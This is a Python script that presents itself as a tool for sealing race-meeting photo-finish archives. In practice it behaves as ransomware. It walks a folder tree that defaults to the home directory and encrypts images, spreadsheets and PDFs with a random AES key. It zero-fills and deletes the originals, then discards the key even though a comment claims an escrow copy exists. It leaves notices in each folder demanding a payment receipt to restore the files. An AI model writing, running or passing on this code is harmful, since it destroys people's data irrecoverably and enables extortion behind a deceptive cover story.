#!/usr/bin/env python3
"""Seal photo-finish archives at the end of a race meeting.

Each finish frame (TIFF/JPEG/RAW) in the archive tree is packed into an
encrypted container so that disputed results cannot be altered afterwards.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("finish.seal")

FRAME_SUFFIXES = {".tif", ".tiff", ".jpg", ".jpeg", ".cr2", ".nef", ".dng", ".csv", ".xlsx", ".pdf"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVE_SEALED.txt"


class ArchiveSealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root).expanduser()
        self.dry_run = dry_run
        # one session key per meeting; the racing office holds the escrow copy
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.sealed = 0
        self.skipped = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            # don't descend into hidden tool folders
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in FRAME_SUFFIXES:
                    yield path

    def seal_one(self, path):
        nonce = secrets.token_bytes(12)
        data = path.read_bytes()
        blob = nonce + self._aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + SEALED_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        target.write_bytes(blob)
        # overwrite the plain frame before unlinking it
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1

    def leave_notice(self, directory):
        notice = directory / NOTICE_NAME
        notice.write_text(
            "Frames in this folder have been sealed.\n"
            "To restore them, contact archive-desk@example.net with the\n"
            "meeting reference and the payment receipt number.\n",
            encoding="utf-8",
        )

    def run(self):
        touched_dirs = set()
        for path in self.candidates():
            try:
                self.seal_one(path)
                touched_dirs.add(path.parent)
            except (OSError, ValueError) as exc:
                log.warning("skip %s: %s", path, exc)
                self.skipped += 1
        if not self.dry_run:
            for d in touched_dirs:
                self.leave_notice(d)
        # key is dropped with the object; nothing is written locally
        self._key = None
        return self.sealed


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--root", default=os.environ.get("FINISH_ARCHIVE", "~"),
                   help="archive root (default: $FINISH_ARCHIVE or home)")
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-q", "--quiet", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    sealer = ArchiveSealer(args.root, dry_run=args.dry_run)
    if not sealer.root.is_dir():
        log.error("archive root %s does not exist", sealer.root)
        return 2
    count = sealer.run()
    log.info("sealed %d frames, skipped %d", count, sealer.skipped)
    return 0


if __name__ == "__main__":
    sys.exit(main())
